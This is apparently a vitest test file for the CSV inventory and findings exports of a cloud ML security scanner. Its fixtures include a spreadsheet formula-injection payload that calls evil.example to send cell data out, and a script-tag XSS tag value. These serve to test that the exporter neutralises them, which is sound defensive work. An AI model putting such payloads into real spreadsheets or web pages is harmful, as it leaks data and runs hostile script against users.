import { describe, expect, it } from 'vitest';
import { CSV_HEADER, renderCsv } from '../../src/report/csv.js';
import { renderFindingsCsv } from '../../src/report/findings-csv.js';
import { parseCsv } from './parse-csv.js';
import { HOSTILE_NAME, HOSTILE_TAG, sampleResult } from './sample-result.js';

function byIdOf(rows: string[][]): Map<string, Record<string, string>> {
  const records = rows.slice(1).map((r) => Object.fromEntries(CSV_HEADER.map((h, i) => [h, r[i]!])));
  return new Map(records.map((r) => [r.id!, r]));
}

const WORKSPACE = '/subscriptions/00000000-0000-0000-0000-000000000001/resourceGroups/rg-ml/providers/Microsoft.MachineLearningServices/workspaces/ws-prod';
const ENDPOINT = 'arn:aws:sagemaker:eu-west-1:111122223333:endpoint/fraud-scoring';

describe('CSV inventory', () => {
  const result = sampleResult();
  result.inventory.assets[1]!.name = '=HYPERLINK("http://evil.example/?"&A1,"x")';
  result.inventory.assets[1]!.tags = { note: 'a,b\r\nc' };
  const text = [...renderCsv(result)].join('');
  const rows = parseCsv(text);
  const byId = byIdOf(rows);

  it('has a header, one row per asset and CRLF line ends', () => {
    expect(rows[0]).toEqual(CSV_HEADER);
    expect(rows).toHaveLength(4);
    expect(rows.every((r) => r.length === CSV_HEADER.length)).toBe(true);
    expect(text.endsWith('\r\n')).toBe(true);
  });

  it('writes tags as key=value pairs, key facts, and failing counts', () => {
    const workspace = byId.get(WORKSPACE)!;
    expect(workspace).toMatchObject({
      kind: 'workspace',
      provider: 'azure',
      name: HOSTILE_NAME,
      tags: 'environment=prod;owner=<script>window.__pwned=1</script>',
      publicNetworkAccess: 'true',
      encryption: 'platform',
      loggingEnabled: 'false',
      versioning: '',
      failingFindings: '1',
    });
    // error and unknown findings are not failures.
    expect(byId.get('arn:aws:s3:::training-data-raw')!.failingFindings).toBe('0');
  });

  it('neutralises formula injection and keeps embedded line breaks inside one field', () => {
    const endpoint = byId.get(ENDPOINT)!;
    expect(endpoint.name).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"x")`);
    expect(endpoint.tags).toBe('note=a,b\nc'); // CRLF inside a cell is written as LF
  });
});

describe('CSV inventory for compliance teams', () => {
  const result = sampleResult();
  result.accounts = [
    { provider: 'aws', id: '111122223333', name: 'prod-payments' },
    { provider: 'azure', id: result.inventory.assets[0]!.account, name: 'ml-prod', path: ['mg-ml'] },
  ];
  result.inventory.assets[1]!.tags = { Owner: 'fraud-team', 'data-classification': 'confidential', environment: 'prod' };
  result.inventory.assets[1]!.raw = { record: { EndpointName: 'fraud-scoring', CreationTime: 1_717_410_600 } };
  result.inventory.assets[0]!.raw = { record: { id: WORKSPACE, systemData: { createdAt: '2024-03-05T09:00:00.000Z' } } };
  const rows = parseCsv([...renderCsv(result)].join(''));
  const byId = byIdOf(rows);

  it('puts the name before the id and the account name beside the account id', () => {
    expect(CSV_HEADER.indexOf('name')).toBe(0);
    expect(CSV_HEADER.indexOf('accountName')).toBe(CSV_HEADER.indexOf('account') - 1);
    expect(CSV_HEADER.at(-1)).toBe('id');
    expect(byId.get(ENDPOINT)).toMatchObject({ name: 'fraud-scoring', accountName: 'prod-payments', account: '111122223333' });
    expect(byId.get(WORKSPACE)!.accountName).toBe('ml-prod');
  });

  it('reads owner, classification and environment from the tags, and the created date from the record', () => {
    expect(byId.get(ENDPOINT)).toMatchObject({ owner: 'fraud-team', classification: 'confidential', environment: 'prod', created: '2024-06-03' });
    expect(byId.get(WORKSPACE)).toMatchObject({ owner: HOSTILE_TAG, environment: 'prod', created: '2024-03-05' });
    expect(byId.get('arn:aws:s3:::training-data-raw')).toMatchObject({ owner: '', classification: '', environment: '', created: '' });
  });

  it('reads owner and classification from the tag keys the scan was configured with, not only the defaults', () => {
    const configured = sampleResult();
    configured.risk = { ...configured.risk, tagKeys: { owner: ['cost-centre-owner'], classification: ['sensitivity'] } };
    configured.inventory.assets[1]!.tags = { 'cost-centre-owner': 'payments-ml', sensitivity: 'restricted', owner: 'not-this-one' };
    expect(byIdOf(parseCsv([...renderCsv(configured)].join(''))).get(ENDPOINT)).toMatchObject({ owner: 'payments-ml', classification: 'restricted' });
  });

  it('lists the framework controls each asset fails (from the gap analysis), and none for an asset that only passes or is unknown', () => {
    expect(byId.get(WORKSPACE)!.failingControls).toBe('ms-ai-risk:5.5.2');
    expect(byId.get('arn:aws:s3:::training-data-raw')!.failingControls).toBe('');
  });

  it('the findings CSV names the account beside its id', () => {
    const [header, ...findingRows] = parseCsv([...renderFindingsCsv(result)].join(''));
    const name = header!.indexOf('accountName');
    expect(header![name + 1]).toBe('account');
    const endpointRow = findingRows.find((r) => r.includes(ENDPOINT))!;
    expect(endpointRow[name]).toBe('prod-payments');
  });
});

describe('findings CSV', () => {
  it('gives each finding row its full fingerprint', () => {
    const result = sampleResult();
    const [header, ...rows] = parseCsv([...renderFindingsCsv(result)].join(''));
    const column = header!.indexOf('fingerprint');
    expect(column).toBeGreaterThan(-1);
    const listed = result.findings.filter((f) => f.status !== 'pass' && f.status !== 'not_applicable');
    expect(rows).toHaveLength(listed.length);
    expect(rows.map((r) => r[column]).sort()).toEqual(listed.map((f) => f.fingerprint).sort());
  });
});
